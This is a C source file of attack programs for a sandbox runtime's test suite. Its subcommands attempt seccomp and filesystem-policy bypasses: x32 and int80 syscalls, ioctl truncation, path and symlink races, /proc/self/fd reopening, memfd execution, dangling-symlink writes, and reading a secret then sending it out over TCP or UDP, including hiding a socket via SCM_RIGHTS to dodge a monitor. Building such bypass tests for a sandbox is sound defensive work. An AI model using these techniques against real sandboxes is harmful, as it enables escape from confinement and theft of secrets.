// Attack programs for the runtime's attack suite: one subcommand per bypass class.
// Each prints what happened; the Rust tests decide what counts as blocked (an
// errno, a SIGSYS death, a server that never hears from us).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>

static const char *SECRET_MARK = "TOP-SECRET";

static void report(const char *what, long r) {
    if (r < 0)
        printf("%s: errno=%d (%s)\n", what, errno, strerror(errno));
    else
        printf("%s: ok=%ld\n", what, r);
    fflush(stdout);
}

// Reads a file by fd; returns 1 if it holds the secret marker.
static int holds_secret(int fd) {
    char buf[256] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    return n > 0 && strstr(buf, SECRET_MARK) != NULL;
}

// Opens `path` n times (while another thread or process rewrites it), counting
// the opens that got the workspace file and those that got the secret.
static void open_loop(const char *path, int n, int *good, int *leaked) {
    for (int i = 0; i < n; i++) {
        int fd = open(path, O_RDONLY);
        if (fd >= 0) {
            if (holds_secret(fd)) (*leaked)++;
            else (*good)++;
        }
    }
}

// ---- racing a path buffer from a second thread ----
static char race_buf[512];
static const char *race_a, *race_b;
static volatile int race_stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!race_stop) {
        strcpy(race_buf, race_a);
        strcpy(race_buf, race_b);
    }
    return NULL;
}

// ---- swapping a symlink from a second thread ----
static const char *swap_link, *swap_good, *swap_bad;
static void *swapper(void *arg) {
    (void)arg;
    char tmp[600];
    snprintf(tmp, sizeof tmp, "%s.tmp", swap_link);
    while (!race_stop) {
        unlink(tmp);
        symlink(swap_bad, tmp);
        rename(tmp, swap_link);
        unlink(tmp);
        symlink(swap_good, tmp);
        rename(tmp, swap_link);
    }
    return NULL;
}

static int inet_socket(int type, const char *ip, int port, struct sockaddr_in *sa) {
    memset(sa, 0, sizeof *sa);
    sa->sin_family = AF_INET;
    sa->sin_port = htons(port);
    inet_pton(AF_INET, ip, &sa->sin_addr);
    int s = socket(AF_INET, type, 0);
    if (s < 0) report("socket", s);
    return s;
}

// Reads a file (a secret) between creating a socket and using it, when given.
static void read_if(int argc, char **argv, int at) {
    if (argc > at) {
        int fd = open(argv[at], O_RDONLY);
        report("open secret", fd);
        if (fd >= 0) close(fd);
    }
}

static void *noop(void *arg) { return arg; }

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: attack NAME [ARGS]\n");
        return 2;
    }
    const char *name = argv[1];
    signal(SIGPIPE, SIG_IGN);

    if (!strcmp(name, "x32")) {
        // getpid with the x32 bit: a filter that forgets x32 lets it through.
        report("x32 getpid", syscall(0x40000000 | 39));
        return 0;
    }
    if (!strcmp(name, "int80")) {
        long r;
        // i386 getpid (20) through the 32-bit entry point.
        __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory");
        printf("int80 getpid: %ld\n", r);
        return 0;
    }
    if (!strcmp(name, "truncation")) {
        char c = 'x';
        // TIOCSTI with garbage in the upper half: the kernel reads 32 bits.
        report("ioctl TIOCSTI|1<<32", syscall(SYS_ioctl, 0, (1UL << 32) | TIOCSTI, &c));
        report("ioctl TIOCSTI", syscall(SYS_ioctl, 0, TIOCSTI, &c));
        report("ioctl TIOCLINUX", syscall(SYS_ioctl, 0, TIOCLINUX, &c));
        return 0;
    }
    if (!strcmp(name, "io_uring")) {
        char params[120] = {0};
        report("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
        return 0;
    }
    if (!strcmp(name, "ptrace")) {
        report("ptrace(TRACEME)", ptrace(PTRACE_TRACEME, 0, 0, 0));
        return 0;
    }
    if (!strcmp(name, "process_vm_writev")) {
        char src[8] = "patched", dst[8] = {0};
        struct iovec l = {src, 8}, r = {dst, 8};
        report("process_vm_writev", syscall(SYS_process_vm_writev, getpid(), &l, 1, &r, 1, 0));
        return 0;
    }
    if (!strcmp(name, "userfaultfd")) {
        report("userfaultfd", syscall(SYS_userfaultfd, 0));
        return 0;
    }
    if (!strcmp(name, "clone3")) {
        uint64_t args[11] = {0};
        args[4] = SIGCHLD;  // exit_signal
        long r = syscall(SYS_clone3, args, sizeof args);
        if (r == 0) _exit(0);
        report("clone3", r);
        pthread_t t;
        int e = pthread_create(&t, NULL, noop, NULL);
        if (e == 0) pthread_join(t, NULL);
        printf("pthread_create: %s\n", e == 0 ? "ok" : strerror(e));
        pid_t p = fork();
        if (p == 0) _exit(0);
        printf("fork: %s\n", p > 0 ? "ok" : strerror(errno));
        return 0;
    }
    if (!strcmp(name, "proc-mem")) {
        report("open /proc/self/mem O_RDWR", open("/proc/self/mem", O_RDWR));
        return 0;
    }
    if (!strcmp(name, "race") && argc == 5) {
        // race GOOD BAD N: open a buffer another thread flips between GOOD and BAD.
        race_a = argv[2];
        race_b = argv[3];
        int n = atoi(argv[4]), good = 0, leaked = 0;
        strcpy(race_buf, race_a);
        pthread_t t;
        pthread_create(&t, NULL, flipper, NULL);
        open_loop(race_buf, n, &good, &leaked);
        race_stop = 1;
        pthread_join(t, NULL);
        printf("race: good=%d leaked=%d\n", good, leaked);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "symlink-swap") && argc == 6) {
        // symlink-swap LINK GOOD BAD N
        swap_link = argv[2];
        swap_good = argv[3];
        swap_bad = argv[4];
        int n = atoi(argv[5]), good = 0, leaked = 0;
        pthread_t t;
        pthread_create(&t, NULL, swapper, NULL);
        open_loop(swap_link, n, &good, &leaked);
        race_stop = 1;
        pthread_join(t, NULL);
        printf("symlink-swap: good=%d leaked=%d\n", good, leaked);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "openat2") && argc == 4) {
        // openat2 SECRET LINK_IN_WORKSPACE: several ways to name the secret.
        const char *secret = argv[2], *link = argv[3];
        int leaked = 0;
        struct open_how how = {.flags = O_RDONLY};
        const struct { const char *path; uint64_t resolve; } tries[] = {
            {secret, 0},
            {link, 0},
            {link, RESOLVE_NO_MAGICLINKS},
            {link, RESOLVE_NO_XDEV},
        };
        for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++) {
            how.resolve = tries[i].resolve;
            long fd = syscall(SYS_openat2, AT_FDCWD, tries[i].path, &how, sizeof how);
            report(tries[i].path, fd);
            if (fd >= 0 && holds_secret(fd)) leaked++;
        }
        char via_proc[600];
        snprintf(via_proc, sizeof via_proc, "/proc/self/root%s", secret);
        how.resolve = 0;
        long fd = syscall(SYS_openat2, AT_FDCWD, via_proc, &how, sizeof how);
        report(via_proc, fd);
        if (fd >= 0 && holds_secret(fd)) leaked++;
        // An O_PATH handle on the link, then re-opened through /proc/self/fd.
        int h = open(link, O_PATH);
        report("O_PATH link", h);
        if (h >= 0) {
            char re[64];
            snprintf(re, sizeof re, "/proc/self/fd/%d", h);
            fd = open(re, O_RDONLY);
            report("reopen via /proc/self/fd", fd);
            if (fd >= 0 && holds_secret(fd)) leaked++;
        }
        printf("openat2: leaked=%d\n", leaked);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "memfd-exec")) {
        int src = open("/bin/true", O_RDONLY);
        int m = memfd_create("payload", MFD_CLOEXEC);
        char buf[65536];
        ssize_t k;
        while ((k = read(src, buf, sizeof buf)) > 0) write(m, buf, k);
        char *args[] = {"payload", NULL}, *env[] = {NULL};
        long r = syscall(SYS_execveat, m, "", args, env, AT_EMPTY_PATH);
        report("execveat(memfd, AT_EMPTY_PATH)", r);
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", m);
        report("execve(/proc/self/fd/N)", execve(p, args, env));
        if (argc == 3) {
            // A copy in a directory the policy does not let run (tmp).
            int d = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);
            lseek(m, 0, SEEK_SET);
            while ((k = read(m, buf, sizeof buf)) > 0) write(d, buf, k);
            close(d);
            report("execve(copy in tmp)", execve(argv[2], args, env));
        }
        printf("memfd-exec: still here\n");
        return 0;
    }
    if (!strcmp(name, "unix") && argc >= 3) {
        // unix PATH... : pathname sockets; unix @NAME: abstract.
        for (int i = 2; i < argc; i++) {
            struct sockaddr_un sa = {.sun_family = AF_UNIX};
            socklen_t len;
            if (argv[i][0] == '@') {
                strncpy(sa.sun_path + 1, argv[i] + 1, sizeof sa.sun_path - 2);
                len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[i] + 1);
            } else {
                strncpy(sa.sun_path, argv[i], sizeof sa.sun_path - 1);
                len = sizeof sa;
            }
            int s = socket(AF_UNIX, SOCK_STREAM, 0);
            report(argv[i], connect(s, (struct sockaddr *)&sa, len));
        }
        return 0;
    }
    if (!strcmp(name, "tcp") && argc >= 5) {
        // tcp IP PORT MESSAGE [SECRET]: connect and send.
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        read_if(argc, argv, 5);
        long r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("tcp connect", r);
        if (r == 0) report("tcp send", send(s, argv[4], strlen(argv[4]), 0));
        return 0;
    }
    if (!strcmp(name, "udp") && argc >= 5) {
        // udp IP PORT MESSAGE [SECRET]: sendto and sendmmsg (what glibc's
        // resolver uses).
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_DGRAM, argv[2], atoi(argv[3]), &sa);
        read_if(argc, argv, 5);
        report("udp sendto", sendto(s, argv[4], strlen(argv[4]), 0, (struct sockaddr *)&sa, sizeof sa));
        struct iovec iov = {argv[4], strlen(argv[4])};
        struct mmsghdr mm = {0};
        mm.msg_hdr.msg_name = &sa;
        mm.msg_hdr.msg_namelen = sizeof sa;
        mm.msg_hdr.msg_iov = &iov;
        mm.msg_hdr.msg_iovlen = 1;
        report("udp sendmmsg", sendmmsg(s, &mm, 1, 0));
        return 0;
    }
    if (!strcmp(name, "hold") && argc == 6) {
        // hold tcp|udp IP PORT SECRET_FILE: connect, send, read a secret, send again
        // on the socket that was already open.
        int udp = !strcmp(argv[2], "udp");
        struct sockaddr_in sa;
        int s = inet_socket(udp ? SOCK_DGRAM : SOCK_STREAM, argv[3], atoi(argv[4]), &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        int fd = open(argv[5], O_RDONLY);
        report("open secret", fd);
        if (fd >= 0) close(fd);
        usleep(100000);
        report("write after", write(s, "after\n", 6));
        report("send after", send(s, "after2\n", 7, 0));
        int s2 = dup(s);
        report("write after (dup)", write(s2, "after3\n", 7));
        return 0;
    }
    if (!strcmp(name, "inflight") && argc == 5) {
        // inflight IP PORT SECRET_FILE: connect, then hide the only reference to the
        // socket in flight (SCM_RIGHTS on a socketpair, original closed) for as long
        // as the monitor's socket reaper needs to see no process holding it; take it
        // back, read the secret, send.
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        int sp[2];
        report("socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sp));
        char byte = 'x', cbuf[CMSG_SPACE(sizeof(int))];
        struct iovec iov = {&byte, 1};
        struct msghdr m = {0};
        m.msg_iov = &iov;
        m.msg_iovlen = 1;
        m.msg_control = cbuf;
        m.msg_controllen = sizeof cbuf;
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &s, sizeof(int));
        report("send fd", sendmsg(sp[0], &m, 0));
        close(s);
        usleep(1500000); // the monitor's socket reaper runs meanwhile
        memset(cbuf, 0, sizeof cbuf);
        m.msg_controllen = sizeof cbuf;
        report("recv fd", recvmsg(sp[1], &m, 0));
        c = CMSG_FIRSTHDR(&m);
        int s2 = -1;
        if (c && c->cmsg_type == SCM_RIGHTS) memcpy(&s2, CMSG_DATA(c), sizeof(int));
        int fd = open(argv[4], O_RDONLY);
        report("open secret", fd);
        if (fd >= 0) close(fd);
        usleep(100000);
        report("write after", write(s2, "after\n", 6));
        return 0;
    }
    if (!strcmp(name, "fork-then")) {
        // fork-then CMD...: run a child process that does the work (exfiltration
        // from a child after the parent was tainted).
        pid_t p = fork();
        if (p == 0) {
            execv(argv[2], argv + 2);
            _exit(127);
        }
        int st;
        waitpid(p, &st, 0);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
    }
    if (!strcmp(name, "vfork-race") && argc == 5) {
        // A CLONE_VM peer rewrites the path while the parent is stopped in open.
        race_a = argv[2];
        race_b = argv[3];
        int n = atoi(argv[4]), good = 0, leaked = 0;
        strcpy(race_buf, race_a);
        static char stack[65536];
        int pid = clone((int (*)(void *))flipper, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
        open_loop(race_buf, n, &good, &leaked);
        race_stop = 1;
        waitpid(pid, NULL, 0);
        printf("vfork-race: good=%d leaked=%d\n", good, leaked);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "dangling") && argc == 6) {
        // dangling SECRET_DIR REL_SECRET_DIR ETC_NAME N: creates through dangling
        // symlinks the program plants itself in its working directory (the
        // workspace), each pointing where the policy forbids writing.
        const char *sdir = argv[2], *rel = argv[3], *etc = argv[4];
        int n = atoi(argv[5]);
        char t[700];
        // The channel works: a dangling link to a workspace file creates it.
        symlink("made.txt", "ok_link");
        int fd = open("ok_link", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        report("create via workspace link", fd);
        if (fd >= 0) { write(fd, "made\n", 5); close(fd); }
        fd = open("ok_link", O_WRONLY | O_CREAT | O_EXCL, 0644);
        report("O_EXCL via existing-target link", fd);
        symlink("made2.txt", "excl_link");
        report("O_EXCL via dangling link", open("excl_link", O_WRONLY | O_CREAT | O_EXCL, 0644));
        report("O_NOFOLLOW via dangling link", open("excl_link", O_WRONLY | O_CREAT | O_NOFOLLOW, 0644));
        // To the secret directory: absolute, relative, a chain, every open call.
        snprintf(t, sizeof t, "%s/planted_abs", sdir);
        symlink(t, "to_secret");
        report("open to_secret", open("to_secret", O_WRONLY | O_CREAT | O_TRUNC, 0600));
        report("creat to_secret", creat("to_secret", 0600));
        report("openat to_secret", openat(AT_FDCWD, "to_secret", O_RDWR | O_CREAT, 0600));
        report("open append to_secret", open("to_secret", O_WRONLY | O_APPEND | O_CREAT, 0600));
        struct open_how how = {.flags = O_WRONLY | O_CREAT, .mode = 0600};
        report("openat2 to_secret", syscall(SYS_openat2, AT_FDCWD, "to_secret", &how, sizeof how));
        snprintf(t, sizeof t, "%s/planted_rel", rel);
        symlink(t, "to_secret_rel");
        report("open to_secret_rel", open("to_secret_rel", O_WRONLY | O_CREAT, 0600));
        snprintf(t, sizeof t, "%s/planted_chain", sdir);
        symlink(t, "chain3");
        symlink("chain3", "chain2");
        mkdir("sub", 0755);
        symlink("../chain2", "sub/chain1");
        report("open sub/chain1", open("sub/chain1", O_WRONLY | O_CREAT, 0600));
        int dfd = open("sub", O_RDONLY | O_DIRECTORY);
        report("openat(dirfd) chain1", openat(dfd, "chain1", O_WRONLY | O_CREAT, 0600));
        symlink(etc, "to_etc");
        report("open to_etc", open("to_etc", O_WRONLY | O_CREAT, 0644));
        // A link swapped between a workspace target and the secret directory.
        swap_link = "race";
        swap_good = "race_ok.txt";
        snprintf(t, sizeof t, "%s/planted_race", sdir);
        swap_bad = t;
        pthread_t th;
        race_stop = 0;
        pthread_create(&th, NULL, swapper, NULL);
        int good = 0, refused = 0;
        for (int i = 0; i < n; i++) {
            int r = open("race", O_WRONLY | O_CREAT, 0600);
            if (r >= 0) { good++; close(r); unlink("race_ok.txt"); }
            else refused++;
        }
        race_stop = 1;
        pthread_join(th, NULL);
        printf("dangling race: good=%d refused=%d\n", good, refused);
        printf("dangling: done\n");
        return 0;
    }
    fprintf(stderr, "attack: unknown attack %s\n", name);
    return 2;
}
